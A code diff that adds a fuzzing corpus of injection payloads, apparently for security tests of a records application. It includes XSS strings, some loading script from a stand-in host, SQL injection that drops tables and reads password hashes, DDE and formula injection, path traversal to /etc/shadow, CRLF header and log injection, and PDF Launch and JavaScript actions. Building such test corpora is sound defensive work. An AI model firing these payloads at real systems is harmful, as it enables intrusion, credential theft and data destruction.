@@ -41,8 +41,47 @@ OWN = {
 }
 
 
+# Each beginning with each end: what breaks out, and what it does then.
+BUILT = {
+    "script": (("", "'", '"', "'>", "\">", "</textarea>", "</title>", "</p></div>", "-->", "</option></select>", "&quot;>"),
+               ("<script>window.canary(31)</script>", "<img src=x onerror=window.canary(32)>", "<svg onload=window.canary(33)>",
+                "<body onpageshow=window.canary(34)>", "<video src=x onerror=window.canary(35)>", " onmouseover=window.canary(36) x=",
+                " onfocus=window.canary(37) autofocus x=", "<iframe src=javascript:parent.canary(38)>",
+                "<object data=javascript:window.canary(39)>", "<script src=//canary.example/s.js></script>",
+                "<input autofocus onfocus=window.canary(40)>", "<style>@import '//canary.example/c.css';</style>",
+                "<form id=x><button form=x formaction=javascript:window.canary(41)>", "<a href=javascript:window.canary(42)>x</a>")),
+    "statement": (("'", '"', "')", "'))", "\\'", "$1'", "`", "';", "%'", "0"),
+                  (" OR 1=1 --", " UNION SELECT password_hash FROM person --", "; DROP TABLE patient; --", " AND (SELECT 1)=1 --",
+                   "; UPDATE person SET is_disabled=TRUE; --", "||(SELECT note FROM audit_checkpoint)||'", "; PRAGMA writable_schema=ON; --",
+                   "; SELECT pg_sleep(9); --", "/**/HAVING/**/1=1 --", "; COPY person TO '/tmp/x'; --", " LIMIT 1 OFFSET 1 --")),
+    "formula": (("=", "+", "-", "@", "\t=", "\r=", "\n=", ";=", "\"=", " ="),
+                ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://canary.example\")", "IMPORTXML(\"http://canary.example\",\"//a\")",
+                 "WEBSERVICE(\"http://canary.example\")", "DDE(\"cmd\",\"/C calc\",\"x\")", "SUM(A1:A9)", "A1", "rundll32|'x'!A0",
+                 "EXEC(\"calc\")")),
+    "path": (("../", "..\\", "..%2f", "..%5c", "....//", "/", "file:///", "%2e%2e/", "./../", "~/"),
+             ("etc/passwd", "../etc/passwd", "../../../../etc/shadow", "proc/self/environ", "clerkwell.db", "audit.key", "x.pdf", "..",
+              "%00.pdf", "windows/win.ini")),
+    "log": (("x\n", "x\r\n", "x\r", "x\u2028", "x\u0085", "x\u000b", "x%0a", "x\\n", "x\u001b[1A", "x\u0000"),
+            ("2026-01-01T00:00:00.000Z error forged", "2026-01-01T00:00:00.000Z notice ending signal=15", "{\"level\":\"error\"}",
+             "error forged person=1", "database: forged: x", "clerkwell: forged", "rejected: forged: x", "\u001b]0;forged\u0007",
+             "\u001b[2Kforged", "<13>forged")),
+    "header": (("x\r\n", "x\n", "x\r", "x%0d%0a", "x\u560d\u560a", "x\u2028", "x\r\n ", "x\u0085", "\r\n", "x;"),
+               ("Set-Cookie: canary=1", "Location: //canary.example", "Content-Length: 0", "Transfer-Encoding: chunked",
+                "Content-Type: text/html", "X-Canary: 1", "Refresh: 0;url=//canary.example", "Link: <//canary.example>;rel=stylesheet",
+                "Access-Control-Allow-Origin: *", "\r\n<script>window.canary(43)</script>")),
+    "page": ((") ", "\\) ", "> ", ">> ", "endstream endobj ", "%\n", "] ", "))) ", "\\051 ", "ET Q "),
+             ("/S /JavaScript /JS (app.alert(1))", "/OpenAction 1 0 R", "/AA << /O 1 0 R >>", "/S /Launch /F (calc.exe)",
+              "/S /URI /URI (http://canary.example)", "/EmbeddedFiles 1 0 R", "/AcroForm << /XFA 1 0 R >>", "/S /SubmitForm",
+              "<FEFF004A0053>", "trailer << /Root 1 0 R >>")),
+}
+
+
 def own():
     return [text for texts in OWN.values() for text in texts]
+
+
+def built():
+    return [begin + end for begins, ends in BUILT.values() for begin in begins for end in ends]
 
 
 def shared(folder):
